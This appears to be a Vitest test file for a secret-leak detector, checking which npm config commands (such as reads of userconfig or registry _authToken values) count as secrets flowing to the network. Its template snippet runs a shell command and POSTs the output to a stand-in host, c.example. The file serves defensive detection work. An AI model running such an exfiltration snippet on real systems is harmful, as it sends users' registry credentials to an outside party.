import { expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

const told = (command: string) =>
  flows(
    follow(
      `const { execSync } = require('child_process'); fetch('https://c.example', { method: 'POST', body: execSync('${command}') });`,
    ),
    'secret.tool',
    'net.out',
  );

test.each([
  ['npm config get cache', false],
  ['npm config get prefix 2>/dev/null', false],
  ['npm config get userconfig', true],
  ['npm config get cache //registry.test/:_authToken', true],
  ['npm config get //registry.test/:_authToken', true],
  ['npm config list', true],
])('%s tells a secret: %s', (command, expected) => {
  expect(told(command) !== undefined).toBe(expected);
});
